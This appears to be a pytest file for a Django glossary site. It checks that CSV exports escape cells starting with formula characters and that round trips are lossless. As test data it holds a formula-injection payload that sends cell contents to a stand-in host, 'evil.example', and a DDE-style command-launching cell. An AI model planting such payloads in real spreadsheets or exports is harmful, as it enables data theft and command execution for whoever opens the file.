"""A CSV export never hands a spreadsheet a formula (issue 26, finding 8), and the
mark that keeps a cell text comes off on import: round trips add nothing."""

import csv
from io import StringIO

import pytest
from django.core.management import call_command

from glossary_site.exchange.records import record_of
from glossary_site.exchange.spreadsheet import as_text_cell, from_text_cell
from terms.models import Term, TermAlias

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def records():
    return {term.slug: record_of(term) for term in Term.objects.prefetch_related("aliases", "related")}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-webkit", "'-webkit"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\rcarriage", "'\rcarriage"),
        ("'=quoted", "''=quoted"),
        ("''+twice", "'''+twice"),
        ("'Tis", "'Tis"),
        ("Plain = text", "Plain = text"),
        ("", ""),
    ],
)
def test_a_formula_start_is_marked_as_text_and_the_mark_alone_comes_off(text, cell):
    assert as_text_cell(text) == cell
    assert from_text_cell(cell) == text
    assert from_text_cell(from_text_cell(as_text_cell(as_text_cell(text)))) == text


def test_exported_cells_never_start_a_formula_and_round_trips_add_no_quotes(tmp_path, make_term):
    make_term(title="@mention", slug="mention", summary=HOSTILE, body="- a list\n- of items")
    make_term(title="+1 button", slug="plus-one", summary="'=already quoted", body="=SUM(A1:A9)")
    make_term(title="Minus", slug="minus", summary="-1 is a number", never_link_in="=cmd' /C calc'!A0\n+more")
    TermAlias.objects.create(term=Term.objects.get(slug="minus"), name="-negative", slug="negative")
    before = records()
    path = tmp_path / "glossary.csv"

    for _ in range(3):
        call_command("export_content", path, stdout=StringIO())
        Term.objects.all().delete()
        call_command("import_content", path, stdout=StringIO())
        assert records() == before

    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    mention = dict(zip(rows[0], next(row for row in rows if row[1] == "mention"), strict=True))
    assert mention["summary"] == "'" + HOSTILE
    assert mention["title"] == "'@mention"
    assert mention["body"] == "'- a list\n- of items"


def test_a_spreadsheets_own_csv_keeps_a_leading_quote_that_marks_nothing(tmp_path, db):
    path = tmp_path / "from-a-spreadsheet.csv"
    path.write_text(
        "title,slug,summary,status,published_at,body\n'Tis,tis,'Tis the season.,published,2024-03-19,Text.\n",
        encoding="utf-8",
    )
    call_command("import_content", path, stdout=StringIO())
    term = Term.objects.get(slug="tis")
    assert (term.title, term.summary) == ("'Tis", "'Tis the season.")
